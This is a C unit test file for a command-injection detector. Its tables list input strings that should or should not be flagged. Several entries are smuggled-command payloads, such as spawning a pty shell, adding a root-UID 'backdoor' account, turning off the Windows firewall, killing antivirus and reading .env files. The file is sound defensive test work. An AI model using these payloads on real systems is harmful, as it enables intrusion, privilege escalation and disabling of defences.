/* test_payload_r9cr.c - issue 20, review of red team 9c's merge (r9c):
 * the exemptions that let a payload through (a build line's script or
 * module, sudo before an unlisted program, only when the value opens
 * with a command line of its own), the kills on operators' pasted lines
 * (Windows' admin tools and the account tools given whole), and the
 * leading-separator readers and cmd's START/CALL of a .exe inside prose,
 * which keep a finding under the kill line. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

/* the build-line exemptions ask for a command line before the separator:
 * one word before it is an attacker's expected value */
static void test_build_line_needs_a_command_line(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"abc;python3 -m pty", C},
		{"abc|python -m pty", C},
		{"abc;python3 -m http.server 80", C},
		{"abc; python run.py", C},
		{"abc;python3 exploit.py", C},
		{";sudo vim -c ':!sh'", C},
		{"abc;sudo vim -c ':!sh'", C},
		{"; sudo sugar", N},
		{"1 && sudo toys", N},
		{";sudo apt-get install -y ncat", C},
		{"python manage.py migrate && python manage.py runserver", N},
		{"$ sudo apt update && sudo apt upgrade -y", N},
		{"sudo apt update && sudo apt upgrade -y", N},
		{"apt install python3.10-venv; python3.10 -m venv env", N},
		{"cd api && DEBUG=1 python app.py", N},
		{"npm run build && nohup node server.js &", N},
		{"./gradlew build --info | tee build.log", N},
		{"I ran `python3 -m venv .venv && source .venv/bin/activate` and got an error", N},
		{"x`python3 -m pty`", C},
		{"x `python3 exploit.py`", C},
		{"x`python3 -m http.server`;", C},
	};
	rt_run_kill("build line", C, t, sizeof(t) / sizeof(t[0]));
}

/* an admin tool's whole command line is an operator's paste; after a
 * separator it stays a payload's */
static void test_admin_tool_lines(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"usermod -aG docker $USER", N},
		{"userdel -r olduser;", N},
		{"userdel -r olduser -- doesn't work on my Mac", N},
		{"waitfor /t 10 SomeSignal", N},
		{"taskkill /f /im chrome.exe", N},
		{"taskkill /F /IM node.exe", N},
		{"bcdedit /set testsigning on", N},
		{"netsh advfirewall set allprofiles state off", N},
		{";useradd -o -u 0 backdoor", C},
		{"& taskkill /f /im av.exe", C},
		{"& netsh advfirewall set allprofiles state off", C},
		{"| waitfor /t 5 pause", C},
	};
	rt_run_kill("admin tool lines", C, t, sizeof(t) / sizeof(t[0]));
}

/* found (50 or more) but under the kill line (60) in both contexts */
static void told_not_killed(const char *v)
{
	for (int ctx = 0; ctx < 2; ctx++) {
		int b = rt_best(v, ctx, PAYLOAD__COUNT);
		if (b < 50 || b >= 60)
			fprintf(stderr, "told, not killed: %s (ctx %d): %d\n", v, ctx, b);
		assert_true(b >= 50 && b < 60);
	}
}

/* a reader given a plain word after a spaced separator, START or CALL of
 * a .exe after prose: a finding, not a reset; glued or opening the value
 * they kill */
static void test_prose_readers_and_launches(void **st)
{
	(void)st;
	static const char *const told[] = {"; cat toys", "1 & cat book", "  & cat food", "1| cat sugar",
					   "1 || cat colors", "Tom & call me.exe", "run setup & start setup.exe"};
	static const struct rtcase t[] = {
		{";cat flag", C},
		{"|cat flag", C},
		{"$(cat flag)", C},
		{"; cat flag.txt", C},
		{"; cat .env", C},
		{"|cat f*", C},
		{";cat\tflag", C},
		{";tac\tflag", C},
		{"127.0.0.1 && cat flag", C},
		{"1 && tac flag", C},
		{"& start /b calc.exe", C},
		{"127.0.0.1 & call x.bat", C},
		{"Build & start \\\\10.0.0.1\\s\\a.exe", C},
		{"dogs; cat lovers", N},
	};
	for (size_t i = 0; i < sizeof(told) / sizeof(told[0]); i++)
		told_not_killed(told[i]);
	rt_run_kill("prose readers", C, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_build_line_needs_a_command_line),
		cmocka_unit_test(test_admin_tool_lines),
		cmocka_unit_test(test_prose_readers_and_launches),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
